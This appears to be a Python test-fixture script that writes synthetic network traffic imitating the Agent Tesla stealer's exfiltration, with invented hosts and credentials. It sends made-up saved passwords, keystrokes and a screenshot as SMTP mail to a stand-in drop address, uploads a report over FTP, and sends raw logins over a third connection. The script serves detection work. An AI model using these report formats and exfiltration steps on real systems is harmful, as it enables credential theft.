"""Agent Tesla's reports by mail and FTP, built from published descriptions, never from its code: reports.py FILE

Always the same bytes. Hosts, people and logins are made up.
"""
import base64
import quopri
import sys

from segments import connection, write

IMPLANT, SERVER = True, False
HEAD = "Time: 09/21/2026 08:15:00<br>User Name: alice<br>Computer Name: VICTIM-PC<br>OSFullName: Microsoft Windows 10 Pro<br>CPU: Test CPU<br>RAM: 8191.49 MB<br>"
LOGINS = HEAD + "<hr>Host:https://mail.test/login<br>\r\nUsername:alice<br>\r\nPassword:tulip-42<br>\r\nApplication:Firefox<br>\r\n<hr>Host:ftp.test<br>\r\nUsername:backup<br>\r\nPassword:tulip-43<br>\r\nApplication:FileZilla<br>\r\n<hr>"
KEYS = HEAD + "<hr><b>[ Payroll - Editor ] (09/21/2026 08:20:00)</b><br>hello{ENTER}<br>"
PICTURE = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + bytes(range(256)) + bytes.fromhex("ffd9")


def line(text):
    return text.encode() + b"\r\n"


def mail(subject, body):
    text = quopri.encodestring(body.replace("\r\n", "\n").encode()).replace(b"\n", b"\r\n")
    return line("From: drop@mail.test") + line("To: drop@mail.test") + line("Subject: " + subject) + line("MIME-Version: 1.0") + line("Content-Type: text/html; charset=us-ascii") + line("Content-Transfer-Encoding: quoted-printable") + line("") + text + line("") + line(".")


def pictured(subject):
    part = line("--b") + line("Content-Type: text/html") + line("") + line(HEAD)
    part += line("--b") + line('Content-Type: image/jpeg; name="screen.jpeg"') + line('Content-Disposition: attachment; filename="screen.jpeg"') + line("Content-Transfer-Encoding: base64") + line("")
    part += base64.encodebytes(PICTURE).replace(b"\n", b"\r\n") + line("--b--")
    return line("From: drop@mail.test") + line("To: drop@mail.test") + line("Subject: " + subject) + line("MIME-Version: 1.0") + line('Content-Type: multipart/mixed; boundary="b"') + line("") + part + line(".")


def handed(letters):
    lines = [(0.1, SERVER, line("220 mail.test ESMTP")), (0.1, IMPLANT, line("EHLO VICTIM-PC")), (0.1, SERVER, line("250 mail.test"))]
    for letter in letters:
        lines += [
            (0.1, IMPLANT, line("MAIL FROM:<drop@mail.test>")),
            (0.1, SERVER, line("250 ok")),
            (0.1, IMPLANT, line("RCPT TO:<drop@mail.test>")),
            (0.1, SERVER, line("250 ok")),
            (0.1, IMPLANT, line("DATA")),
            (0.1, SERVER, line("354 go on")),
            (0.1, IMPLANT, letter),
            (0.1, SERVER, line("250 taken")),
        ]
    return lines + [(0.1, IMPLANT, line("QUIT")), (0.1, SERVER, line("221 bye"))]


def uploaded(name):
    return [
        (0.1, SERVER, line("220 ready")),
        (0.1, IMPLANT, line("USER drop")),
        (0.1, SERVER, line("331 password")),
        (0.1, IMPLANT, line("PASS none")),
        (0.1, SERVER, line("230 in")),
        (0.1, IMPLANT, line("TYPE I")),
        (0.1, SERVER, line("200 binary")),
        (0.1, IMPLANT, line("PASV")),
        (0.1, SERVER, line("227 passive (198,51,100,20,195,80)")),
        (0.1, IMPLANT, line("STOR " + name)),
        (0.1, SERVER, line("150 go on")),
        (2.0, SERVER, line("226 done")),
    ]


frames = list(connection((40000, 25), handed([mail("PW_alice/VICTIM-PC", LOGINS), mail("KL_alice/VICTIM-PC", KEYS), pictured("SC_alice/VICTIM-PC")])))
frames += connection((40001, 21), uploaded("PW_alice-VICTIM-PC_2026_09_21_08_30_00.html"), 60.0)
frames += connection((40002, 50000), [(0.05, IMPLANT, LOGINS.encode())], 61.25)
write(sys.argv[1], frames)
